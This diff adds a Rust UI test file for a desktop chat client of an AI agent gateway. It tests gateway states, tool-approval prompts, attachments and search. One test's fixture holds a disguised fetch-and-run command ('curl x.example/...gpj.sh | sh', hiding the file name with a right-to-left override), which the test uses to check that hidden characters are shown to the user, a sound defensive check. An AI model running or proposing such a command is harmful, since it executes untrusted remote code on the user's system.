@@ -1,0 +1,657 @@
+//! The gateway's conversations, found by their names as a screen reader finds them.
+
+use crate::chat_model::*;
+use crate::world::*;
+use egui::accesskit::Role as R;
+use egui::{Event, Key, Modifiers};
+use egui_kittest::Harness;
+use egui_kittest::kittest::{NodeT, Queryable};
+use multiclaw_core::Command;
+use multiclaw_core::model::*;
+use std::sync::Arc;
+
+type Screen = Harness<'static, State>;
+
+fn press(h: &mut Screen, modifiers: Modifiers, key: Key) {
+    h.key_press_modifiers(modifiers, key);
+    h.run_steps(3);
+}
+
+fn write(h: &mut Screen, text: &str) {
+    h.event(Event::Text(text.into()));
+    h.run_steps(2);
+}
+
+fn click(h: &mut Screen, name: &str) {
+    h.get_by_label(name).click();
+    h.run_steps(3);
+}
+
+fn taken(h: &mut Screen) -> Vec<Command> {
+    std::mem::take(&mut h.state_mut().commands)
+}
+
+fn part(h: &Screen, text: &str) -> bool {
+    h.query_all_by_label_contains(text).next().is_some()
+}
+
+/// A problem is named by its box and by its text.
+fn has(h: &Screen, text: &str) {
+    assert!(h.query_all_by_label(text).next().is_some(), "{text} in {h:?}");
+}
+
+fn message(h: &mut Screen) {
+    h.get_by_role_and_label(R::MultilineTextInput, "Message").focus();
+    h.run_steps(2);
+}
+
+fn unknown(link: GatewayLink) -> Model {
+    let mut model = signed_in(three());
+    model.gateway.link = link;
+    model
+}
+
+#[test]
+fn every_state_of_the_gateway_is_said_and_has_its_button() {
+    let lost = || problem("The gateway went away.", "It may be restarting.");
+    let waiting = || GatewayLink::Waiting { seconds: 4, problem: lost() };
+    for (link, title, button, command) in [
+        (GatewayLink::Looking, "Looking for the gateway…", "", None),
+        (GatewayLink::Connecting, "Connecting to the gateway…", "", None),
+        (GatewayLink::Restarting { seconds: 3 }, "The gateway restarts", "", None),
+        (waiting(), "The gateway went away.", "Try now", Some(Command::ConnectGateway)),
+        (
+            GatewayLink::Stopped,
+            "The gateway is not running",
+            "Start gateway",
+            Some(Command::StartGateway),
+        ),
+        (
+            GatewayLink::NotInstalled,
+            "OpenClaw is not on this computer",
+            "How to install it",
+            Some(Command::OpenLink("https://docs.openclaw.ai/install".into())),
+        ),
+    ] {
+        let mut h = chat(unknown(link.clone()));
+        has(&h, title);
+        if let Some(command) = command.clone() {
+            click(&mut h, button);
+            assert_eq!(taken(&mut h), [command]);
+        }
+        // What is known can still be read, with the same button above it.
+        let mut model = opened(every_kind());
+        model.gateway.link = link;
+        let mut h = chat(model);
+        assert!(part(&h, title), "{title}");
+        assert!(part(&h, "Then delete the temporary files."));
+        assert!(h.get_by_label("Send").accesskit_node().is_disabled());
+        if let Some(command) = command {
+            click(&mut h, button);
+            assert_eq!(taken(&mut h), [command]);
+        }
+    }
+}
+
+#[test]
+fn every_refusal_says_what_solves_it() {
+    for refusal in [
+        GatewayRefusal::TokenMissing,
+        GatewayRefusal::TokenWrong,
+        GatewayRefusal::DeviceRefused,
+        GatewayRefusal::GatewayTooOld,
+        GatewayRefusal::GatewayTooNew,
+        GatewayRefusal::RateLimited,
+        GatewayRefusal::Configuration,
+        GatewayRefusal::NotLoopback,
+        GatewayRefusal::Other,
+        GatewayRefusal::PairingNeeded { command: "openclaw devices approve 0b1f".into() },
+    ] {
+        let problem = problem("It does not let us in.", "This is what to do.");
+        let pairing = matches!(refusal, GatewayRefusal::PairingNeeded { .. });
+        let mut h = chat(unknown(GatewayLink::Refused { refusal, problem }));
+        has(&h, "It does not let us in.");
+        has(&h, "This is what to do.");
+        if pairing {
+            has(&h, "openclaw devices approve 0b1f");
+            h.get_by_label("Copy the command").click();
+            h.step();
+            assert_eq!(copied(&h), ["openclaw devices approve 0b1f"]);
+        }
+        click(&mut h, "Try again");
+        assert_eq!(taken(&mut h), [Command::ConnectGateway]);
+    }
+}
+
+fn copied(h: &Screen) -> Vec<String> {
+    let all = &h.output().platform_output.commands;
+    all.iter()
+        .filter_map(|c| match c {
+            egui::OutputCommand::CopyText(text) => Some(text.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn the_list_has_its_states_and_is_used_with_the_keyboard() {
+    let mut model = listed();
+    model.chat.list = Load::Ready(Arc::default());
+    has(&chat(model), "Begin your first chat");
+    let mut model = listed();
+    model.chat.list = Load::Failed(problem("It was not loaded.", ""));
+    let mut h = chat(model);
+    has(&h, "It was not loaded.");
+    click(&mut h, "Try again");
+    assert_eq!(taken(&mut h), [Command::ChatWithAgent(None)]);
+
+    let mut h = chat(listed());
+    assert!(part(&h, "Main, 14:20, pinned"));
+    assert!(part(&h, "Tidy the downloads folder, 14:06, waiting for your approval"));
+    assert!(part(&h, "Why does the build fail on ARM?, 13:40, running"));
+    assert!(part(&h, "Letter to the Royal Society, 20 Nov, 17:40, unread"));
+    click(&mut h, "New chat");
+    assert_eq!(taken(&mut h), [Command::NewChat(None)]);
+    press(&mut h, Modifiers::COMMAND, Key::N);
+    assert_eq!(taken(&mut h), [Command::NewChat(None)]);
+    press(&mut h, Modifiers::COMMAND, Key::F);
+    press(&mut h, Modifiers::NONE, Key::ArrowDown);
+    press(&mut h, Modifiers::NONE, Key::ArrowDown);
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    assert_eq!(taken(&mut h), [Command::OpenChat(Some(KEY.into()))]);
+    press(&mut h, Modifiers::NONE, Key::F2);
+    write(&mut h, " well");
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    let [Command::ChangeChat { key, change: ChatChange::Title(title) }] = &taken(&mut h)[..] else {
+        panic!("a new title")
+    };
+    assert!(key == KEY && title.contains("well"), "{title}");
+}
+
+#[test]
+fn deleting_asks_and_the_main_conversation_is_emptied() {
+    let mut h = chat(listed());
+    press(&mut h, Modifiers::COMMAND, Key::F);
+    press(&mut h, Modifiers::NONE, Key::ArrowDown);
+    press(&mut h, Modifiers::NONE, Key::Delete);
+    has(&h, "Empty this conversation?");
+    press(&mut h, Modifiers::NONE, Key::Escape);
+    assert_eq!(taken(&mut h), []);
+    press(&mut h, Modifiers::COMMAND, Key::F);
+    press(&mut h, Modifiers::NONE, Key::ArrowDown);
+    press(&mut h, Modifiers::NONE, Key::ArrowDown);
+    press(&mut h, Modifiers::NONE, Key::Delete);
+    has(&h, "Delete this conversation?");
+    click(&mut h, "Delete");
+    assert_eq!(taken(&mut h), [Command::DeleteChat(KEY.into())]);
+}
+
+#[test]
+fn agents_are_switched() {
+    let mut h = chat(listed());
+    click(&mut h, "Agent: All agents");
+    h.get_by_role_and_label(R::MenuItem, "Operations").click();
+    h.run_steps(3);
+    assert_eq!(taken(&mut h), [Command::ChatWithAgent(Some("ops".into()))]);
+}
+
+#[test]
+fn conversations_are_searched() {
+    let mut h = chat(listed());
+    press(&mut h, Modifiers::COMMAND, Key::F);
+    write(&mut h, "linker");
+    assert_eq!(taken(&mut h), [Command::SearchChats("linker".into())]);
+    has(&h, "Searching…");
+    let hit = ChatHit {
+        key: "agent:main:b".into(),
+        title: "Why does the build fail on ARM?".into(),
+        excerpt: "The linker wants -latomic.".into(),
+        when: "13:40".into(),
+    };
+    let mut search =
+        ChatSearch { text: "linker".into(), busy: false, problem: None, hits: Arc::new(vec![hit]) };
+    h.state_mut().model.chat.search = Some(search.clone());
+    h.run_steps(2);
+    click(&mut h, "Why does the build fail on ARM?, 13:40: The linker wants -latomic.");
+    assert_eq!(taken(&mut h), [Command::OpenChat(Some("agent:main:b".into()))]);
+    search.hits = Arc::default();
+    h.state_mut().model.chat.search = Some(search.clone());
+    h.run_steps(2);
+    has(&h, "Nothing found");
+    search.problem = Some(problem("It could not be searched.", ""));
+    h.state_mut().model.chat.search = Some(search);
+    h.run_steps(2);
+    has(&h, "It could not be searched.");
+}
+
+#[test]
+fn every_kind_of_entry_is_shown() {
+    let mut h = chat(opened(every_kind()));
+    for text in [
+        "The gateway was stopped before it took it.",
+        "The model did not answer in time. Try again in a minute.",
+        "Then delete the temporary files.",
+        "Compacted",
+    ] {
+        assert!(part(&h, text), "{text}");
+    }
+    click(&mut h, "Retry");
+    assert_eq!(taken(&mut h), [Command::RetryChat("e-14".into())]);
+    click(&mut h, "Send again");
+    assert_eq!(taken(&mut h), [Command::RetryChat("e-12".into())]);
+    let mut h = chat(opened(every_kind()[..9].to_vec()));
+    for text in [
+        "Molty, 20 Nov, 17:02: I am. What can I do for you?",
+        "Emptied",
+        "exec, List the largest files, Done, 1.2 s, exit code 0",
+        "web_fetch, Read the manual of find, Done, 1.2 s",
+        "exec, Count the temporary files, Failed, 1.2 s, exit code 2",
+        "exec, Delete everything, Denied",
+        "folder.png, 120 KB",
+        "list.csv, 8 KB",
+    ] {
+        assert!(part(&h, text), "{text}");
+    }
+    assert!(!part(&h, "So: list, then ask."));
+    click(&mut h, "Thought: show");
+    assert!(part(&h, "The person wants to see sizes"));
+    has(&h, "Thought: hide");
+    click(&mut h, "exec, Count the temporary files, Failed, 1.2 s, exit code 2");
+    assert!(part(&h, "Input: find ~/Downloads"));
+    assert!(part(&h, "Output: /home/ada/Downloads/a.tmp"));
+    click(&mut h, "web_fetch, Read the manual of find, Done, 1.2 s");
+    click(&mut h, "GNU Findutils, www.gnu.org");
+    assert_eq!(taken(&mut h), [Command::OpenLink("https://www.gnu.org/find".into())]);
+}
+
+#[test]
+fn all_of_a_cut_output_can_be_loaded() {
+    let mut cut = call("t-1", "exec", "Print it", ToolState::Done);
+    (cut.output, cut.cut) = ("x".repeat(100_000).into(), 2_100_000);
+    let all = vec![person("e-1", "14:00", "Print it"), tool("e-2", cut)];
+    let mut h = chat(opened(all));
+    click(&mut h, "exec, Print it, Done, 1.2 s, exit code 0");
+    has(&h, "2.1 MB more were left out.");
+    click(&mut h, "Load all");
+    assert_eq!(taken(&mut h), [Command::LoadToolOutput("e-2".into())]);
+}
+
+#[test]
+fn an_answer_grows_and_is_followed() {
+    let mut h = chat(opened(every_kind()));
+    let mut text = Text::from("It begins");
+    open(&mut h.state_mut().model).run = run();
+    for n in 0..60 {
+        text.push(&format!("\n\nParagraph {n} of it."));
+        let live = entry("l-1", "14:07", said(text.clone(), true));
+        open(&mut h.state_mut().model).live = vec![live];
+        h.run_steps(1);
+    }
+    h.run_steps(2);
+    assert!(part(&h, "Molty, 14:07: It begins"));
+    has(&h, "Running a command  ·  since 14:06");
+    assert!(h.query_by_label("Jump to newest").is_none(), "it is at the newest");
+    // It settles under another name, and stays where it is.
+    let mut settled = every_kind();
+    settled.push(entry("e-15", "14:07", said(text, false)));
+    let thread = open(&mut h.state_mut().model);
+    thread.entries = Arc::new(settled);
+    (thread.live, thread.run) = (Vec::new(), None);
+    h.run_steps(3);
+    assert!(h.query_by_label("Jump to newest").is_none());
+    h.get_by_role_and_label(R::Log, "Conversation").focus();
+    h.run_steps(1);
+    press(&mut h, Modifiers::NONE, Key::Home);
+    let mut settled = open(&mut h.state_mut().model).entries.to_vec();
+    settled.push(entry("e-16", "14:08", said("One more thing.", false)));
+    open(&mut h.state_mut().model).entries = Arc::new(settled);
+    h.run_steps(3);
+    click(&mut h, "1 new below");
+    assert!(part(&h, "One more thing."));
+}
+
+#[test]
+fn older_and_newer_entries_are_loaded() {
+    let mut model = opened(every_kind());
+    open(&mut model).older = true;
+    let mut h = chat(model);
+    assert_eq!(taken(&mut h), []);
+    h.get_by_role_and_label(R::Log, "Conversation").focus();
+    h.run_steps(1);
+    press(&mut h, Modifiers::NONE, Key::Home);
+    h.run_steps(5);
+    assert_eq!(taken(&mut h), [Command::LoadOlderChat], "once");
+    open(&mut h.state_mut().model).newer = true;
+    h.run_steps(2);
+    click(&mut h, "Jump to newest");
+    assert_eq!(taken(&mut h), [Command::LoadNewestChat]);
+}
+
+#[test]
+fn a_command_is_allowed_or_denied_and_never_by_a_press_that_was_meant_for_something_else() {
+    for (name, decision) in [
+        ("Allow once", Decision::AllowOnce),
+        ("Always allow", Decision::AllowAlways),
+        ("Deny", Decision::Deny),
+    ] {
+        let mut h = chat(asking());
+        h.run_steps(4);
+        assert!(part(&h, "Run this command? find /home/ada/Downloads"));
+        assert!(part(&h, "with /usr/bin/find. It deletes files."));
+        click(&mut h, name);
+        let wanted = Command::DecideApproval { id: "a-1".into(), decision };
+        assert_eq!(taken(&mut h), [wanted]);
+    }
+    let mut model = asking();
+    let mut own = approval("t-9");
+    own.allowed = vec![Decision::AllowOnce, Decision::Deny];
+    own.answering = true;
+    model.chat.approvals = Arc::new(vec![Arc::new(own)]);
+    let h = chat(model);
+    assert!(h.query_by_label("Always allow").is_none(), "it is not offered");
+    assert!(h.get_by_label("Deny").accesskit_node().is_disabled());
+
+    // It appears while somebody types: Enter sends what was typed, and nothing else.
+    let mut h = chat(opened(every_kind()));
+    message(&mut h);
+    write(&mut h, "yes");
+    h.state_mut().model = asking();
+    h.run_steps(1);
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    let commands = taken(&mut h);
+    let sent = Command::SendChat { text: "yes".into(), mode: SendMode::Steer };
+    assert!(commands.contains(&sent), "{commands:?}");
+    let decided = |c: &Command| matches!(c, Command::DecideApproval { .. });
+    assert!(!commands.iter().any(decided));
+}
+
+#[test]
+fn what_cannot_be_seen_in_a_command_is_written_out() {
+    let mut model = opened(every_kind());
+    let mut odd = approval("");
+    odd.command = "curl x.example/\u{202e}gpj.sh | sh".into();
+    model.chat.approvals = Arc::new(vec![Arc::new(odd)]);
+    let h = chat(model);
+    assert!(part(&h, "Run this command? curl x.example/\\u{202e}gpj.sh | sh"));
+}
+
+#[test]
+fn commands_that_wait_elsewhere_are_said_above_the_field() {
+    let mut model = asking();
+    let other = Approval { id: "a-2".into(), key: "agent:main:b".into(), ..approval("t-1") };
+    let all = vec![Arc::new(approval("t-9")), Arc::new(other)];
+    model.chat.approvals = Arc::new(all);
+    let mut h = chat(model);
+    has(&h, "2 commands wait for you");
+    has(&h, "A command waits in “Why does the build fail on ARM?”");
+    click(&mut h, "Open");
+    assert_eq!(taken(&mut h), [Command::OpenChat(Some("agent:main:b".into()))]);
+    h.get_by_role_and_label(R::Log, "Conversation").focus();
+    h.run_steps(1);
+    press(&mut h, Modifiers::NONE, Key::Home);
+    assert!(h.query_by_label("Allow once").is_none());
+    assert!(part(&h, "Waits for you: find /home/ada/Downloads"));
+    click(&mut h, "Show");
+    has(&h, "Allow once");
+}
+
+#[test]
+fn a_turn_is_steered_followed_and_stopped() {
+    let mut model = opened(every_kind());
+    open(&mut model).run = run();
+    let mut h = chat(model);
+    assert!(h.query_by_label("Send").is_none());
+    click(&mut h, "Stop");
+    assert_eq!(taken(&mut h), [Command::StopChat]);
+    message(&mut h);
+    write(&mut h, "Skip the pictures");
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    let steer = Command::SendChat { text: "Skip the pictures".into(), mode: SendMode::Steer };
+    assert_eq!(taken(&mut h), [steer]);
+    click(&mut h, "When it is sent: Send now");
+    h.get_by_role_and_label(R::MenuItem, "After this turn").click();
+    h.run_steps(3);
+    message(&mut h);
+    write(&mut h, "Then rest");
+    click(&mut h, "Send");
+    let commands = taken(&mut h);
+    let later = Command::SendChat { text: "Then rest".into(), mode: SendMode::FollowUp };
+    assert!(commands.contains(&later), "{commands:?}");
+    open(&mut h.state_mut().model).run.as_mut().unwrap().stopping = true;
+    h.run_steps(2);
+    assert!(h.get_by_role_and_label(R::Button, "Stopping…").accesskit_node().is_disabled());
+}
+
+#[test]
+fn enter_sends_shift_enter_breaks_the_line_and_drafts_are_kept() {
+    let mut h = chat(opened(every_kind()));
+    write(&mut h, "/status");
+    has(&h, "This is a command for the gateway. Enter sends it.");
+    h.run_steps(8);
+    assert_eq!(taken(&mut h), [Command::KeepChatDraft("/status".into())]);
+    press(&mut h, Modifiers::SHIFT, Key::Enter);
+    write(&mut h, "more");
+    press(&mut h, Modifiers::COMMAND, Key::Num2);
+    let kept = Command::KeepChatDraft("/status\nmore".into());
+    assert_eq!(taken(&mut h).last(), Some(&kept));
+    press(&mut h, Modifiers::COMMAND, Key::Num1);
+    message(&mut h);
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    let text = "/status\nmore".to_owned();
+    let sent = Command::SendChat { text, mode: SendMode::Steer };
+    assert_eq!(taken(&mut h), [sent, Command::KeepChatDraft(String::new())]);
+}
+
+#[test]
+fn attachments_are_added_removed_and_judged() {
+    let mut h = chat(opened(every_kind()));
+    click(&mut h, "Attach files");
+    assert_eq!(taken(&mut h), [Command::PickAttachments]);
+    message(&mut h);
+    press(&mut h, Modifiers::COMMAND, Key::V);
+    assert_eq!(taken(&mut h), [Command::AttachClipboard]);
+    let key = Event::Key {
+        key: Key::V,
+        physical_key: None,
+        pressed: true,
+        repeat: false,
+        modifiers: Modifiers::COMMAND,
+    };
+    h.input_mut().events.extend([Event::Paste("words".into()), key]);
+    h.step();
+    assert_eq!(taken(&mut h), [], "there was text to paste");
+    let too_large = problem("It has 31 MB, and the gateway takes 19.4 MB.", "");
+    let files = vec![
+        attachment(1, "notes.pdf", 1_200_000),
+        Attachment { problem: Some(too_large), ..attachment(2, "film.mov", 31_000_000) },
+    ];
+    open(&mut h.state_mut().model).attachments = files;
+    h.run_steps(2);
+    has(&h, "notes.pdf, File  ·  1.2 MB");
+    has(&h, "film.mov: It has 31 MB, and the gateway takes 19.4 MB.");
+    has(&h, "Take away what cannot be sent, then send the message.");
+    assert!(h.get_by_label("Send").accesskit_node().is_disabled());
+    click(&mut h, "Remove film.mov");
+    assert!(taken(&mut h).contains(&Command::RemoveAttachment(2)));
+    open(&mut h.state_mut().model).attachments.pop();
+    h.run_steps(2);
+    has(&h, "Files up to 19.4 MB, pictures up to 6.2 MB.");
+    assert!(!h.get_by_label("Send").accesskit_node().is_disabled());
+    open(&mut h.state_mut().model).attachments[0].reading = true;
+    h.run_steps(2);
+    has(&h, "notes.pdf is still being read.");
+}
+
+#[derive(Debug)]
+struct Dropped(std::path::PathBuf);
+
+impl egui::DroppedFile for Dropped {
+    fn path(&self) -> &std::path::Path {
+        &self.0
+    }
+
+    fn bytes(&self) -> Result<Vec<u8>, String> {
+        Err("The screen must not read it.".into())
+    }
+}
+
+#[test]
+fn files_are_dropped_on_the_conversation() {
+    let mut h = chat(opened(every_kind()));
+    h.input_mut().hovered_files = vec![egui::HoveredFile::default()];
+    h.step();
+    has(&h, "Drop files to send them to Molty");
+    h.input_mut().hovered_files.clear();
+    h.input_mut().dropped_files = vec![Arc::new(Dropped("/home/ada/notes.pdf".into()))];
+    h.step();
+    h.input_mut().dropped_files.clear();
+    h.run_steps(2);
+    assert_eq!(taken(&mut h), [Command::AttachFile("/home/ada/notes.pdf".into())]);
+    assert!(h.query_by_label("Drop files to send them to Molty").is_none());
+}
+
+#[test]
+fn a_message_is_changed_and_sent_again() {
+    let all = vec![
+        person("e-1", "14:00", "Whats the time?"),
+        entry("e-2", "14:00", said("14:00.", false)),
+    ];
+    let mut h = chat(opened(all));
+    click(&mut h, "Ask again");
+    assert_eq!(taken(&mut h), [Command::RetryChat("e-2".into())]);
+    message(&mut h);
+    write(&mut h, "begun");
+    click(&mut h, "Change and send again");
+    has(&h, "Changing a message. What came after it is replaced.");
+    let field = h.get_by_role_and_label(R::MultilineTextInput, "Message");
+    assert_eq!(field.accesskit_node().value().as_deref(), Some("Whats the time?"));
+    press(&mut h, Modifiers::NONE, Key::End);
+    write(&mut h, " Now?");
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    let commands = taken(&mut h);
+    let resent = |c: &&Command| matches!(c, Command::ResendChat { .. });
+    let Some(Command::ResendChat { entry, text }) = commands.iter().find(resent) else {
+        panic!("{commands:?}")
+    };
+    assert!(entry == "e-1" && text.contains("Whats the time?") && text.contains("Now?"));
+    // What was begun before is still there.
+    let field = h.get_by_role_and_label(R::MultilineTextInput, "Message");
+    assert_eq!(field.accesskit_node().value().as_deref(), Some("begun"));
+}
+
+#[test]
+fn the_open_conversation_is_changed_from_its_bar() {
+    let mut h = chat(opened(every_kind()));
+    let changed = |change| Command::ChangeChat { key: KEY.into(), change };
+    has(&h, "Context: 48k of 200k tokens used");
+    for (chip, item, change) in [
+        ("Model: Claude Opus", "GPT", ChatChange::Model("openai/gpt".into())),
+        ("Thinking: Thinking: low", "High", ChatChange::Thinking("high".into())),
+        (
+            "Permissions: Ask first",
+            "Full access: Everything is run without asking",
+            ChatChange::Permission(Permission::Full),
+        ),
+    ] {
+        click(&mut h, chip);
+        h.get_by_role_and_label(R::MenuItem, item).click();
+        h.run_steps(3);
+        assert_eq!(taken(&mut h), [changed(change)]);
+    }
+    click(&mut h, "Pin to the top");
+    assert_eq!(taken(&mut h), [changed(ChatChange::Pinned(true))]);
+    click(&mut h, "Title: Tidy the downloads folder");
+    write(&mut h, "Downloads");
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    assert_eq!(taken(&mut h), [changed(ChatChange::Title("Downloads".into()))]);
+    for (item, command) in [
+        ("Export as Markdown…", Command::ExportChat(ExportFormat::Markdown)),
+        ("Export as JSON…", Command::ExportChat(ExportFormat::Json)),
+        ("Compact", Command::CompactChat),
+    ] {
+        click(&mut h, "More actions");
+        h.get_by_role_and_label(R::MenuItem, item).click();
+        h.run_steps(3);
+        assert_eq!(taken(&mut h), [command]);
+    }
+    click(&mut h, "More actions");
+    h.get_by_role_and_label(R::MenuItem, "Empty…").click();
+    h.run_steps(3);
+    click(&mut h, "Empty");
+    assert_eq!(taken(&mut h), [Command::ResetChat]);
+}
+
+#[test]
+fn an_export_says_how_it_went() {
+    let mut model = opened(every_kind());
+    model.chat.export = Some(Export::Busy(400));
+    let mut h = chat(model);
+    has(&h, "400 entries so far");
+    h.state_mut().model.chat.export = Some(Export::Failed(problem("The disk is full.", "")));
+    h.run_steps(2);
+    has(&h, "The disk is full.");
+    h.state_mut().model.chat.export = Some(Export::Done("tidy.md".into()));
+    h.run_steps(2);
+    has(&h, "Exported to tidy.md");
+    click(&mut h, "Close");
+    assert_eq!(taken(&mut h), [Command::ForgetExport]);
+}
+
+#[test]
+fn text_is_found_in_what_is_settled_live_and_open() {
+    let mut model = opened(every_kind());
+    open(&mut model).live = vec![entry("l-1", "14:07", said("More temporary things", true))];
+    let mut h = chat(model);
+    press(&mut h, Modifiers::COMMAND, Key::F);
+    write(&mut h, "TEMPORARY");
+    h.run_steps(3);
+    has(&h, "1 of 4");
+    press(&mut h, Modifiers::SHIFT, Key::Enter);
+    has(&h, "4 of 4");
+    press(&mut h, Modifiers::NONE, Key::Enter);
+    has(&h, "1 of 4");
+    write(&mut h, " unheard of");
+    h.run_steps(2);
+    has(&h, "Nothing found");
+    press(&mut h, Modifiers::NONE, Key::Escape);
+    assert!(h.query_by_label("Close find").is_none());
+}
+
+#[test]
+fn in_a_narrow_window_there_is_one_pane() {
+    for size in [[700.0, 560.0], [420.0, 640.0]] {
+        let mut h = sized(listed(), size);
+        h.get_by_role_and_label(R::SearchInput, "Search conversations");
+        h.state_mut().model.chat.open = Some(thread(every_kind()));
+        h.run_steps(3);
+        assert!(h.query_by_role_and_label(R::SearchInput, "Search conversations").is_none());
+        let field = h.get_by_role_and_label(R::MultilineTextInput, "Message").rect();
+        assert!(field.left() > 0.0 && field.right() < size[0]);
+        click(&mut h, "Back to the list");
+        assert_eq!(taken(&mut h), [Command::OpenChat(None)]);
+    }
+}
+
+#[test]
+fn without_an_account_there_is_chat() {
+    let model = Model { account: Account::Local, ..opened(every_kind()) };
+    let h = chat(model);
+    assert!(part(&h, "Then delete the temporary files."));
+}
+
+#[test]
+fn the_screen_at_rest_asks_for_no_repaint() {
+    let mut all = vec![
+        ("list", chat(listed())),
+        ("thread", chat(opened(every_kind()))),
+        ("asking", chat(asking())),
+        ("busy", chat(crate::chat_look::busy())),
+        ("stopped", chat(crate::chat_look::stopped())),
+        ("pairing", chat(crate::chat_look::pairing())),
+    ];
+    for (name, h) in &mut all {
+        h.run_steps(20);
+        let delay = h.output().viewport_output.values().map(|v| v.repaint_delay).min().unwrap();
+        assert_eq!(delay, std::time::Duration::MAX, "{name} repaints");
+    }
+}
